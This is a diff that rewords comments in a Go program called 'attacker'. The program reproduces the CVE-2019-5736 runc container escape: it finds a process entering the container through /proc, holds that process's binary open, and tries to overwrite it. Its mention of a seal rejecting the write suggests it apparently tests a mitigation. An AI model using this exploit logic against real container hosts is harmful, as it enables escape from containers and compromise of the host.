@@ -1,7 +1,8 @@
 // SPDX-License-Identifier: MIT
 
-// Command attacker is the first process of a container. It holds the program of whoever enters, and overwrites it once that
-// has ended (CVE-2019-5736). It says what happens, a line each; the last one comes when its input has ended.
+// Command attacker is the first process of a container. It opens the program of a process that
+// enters the container, and overwrites it when that process has ended (CVE-2019-5736). It prints a
+// line for each event; the last line follows the end of its input.
 package main
 
 import (
@@ -38,7 +39,7 @@ func attack() error {
 	for isOver := false; !isOver && !written; {
 		select {
 		case <-ended:
-			isOver = true // and once more
+			isOver = true // tries once more
 		case <-time.After(time.Millisecond):
 		}
 		written, last = overwrite(held)
@@ -48,7 +49,7 @@ func attack() error {
 	return nil
 }
 
-// hold waits for another process to show up, and opens its program.
+// hold waits for another process and opens its program.
 func hold() (int, string) {
 	for {
 		paths, _ := filepath.Glob("/proc/[1-9]*/exe")
@@ -80,7 +81,7 @@ func overwrite(held int) (bool, error) {
 		if n > 0 {
 			return true, nil
 		}
-		last = err // the seal: it was opened
+		last = err // the file was opened, but the seal rejected the write
 	}
 	return false, last
 }
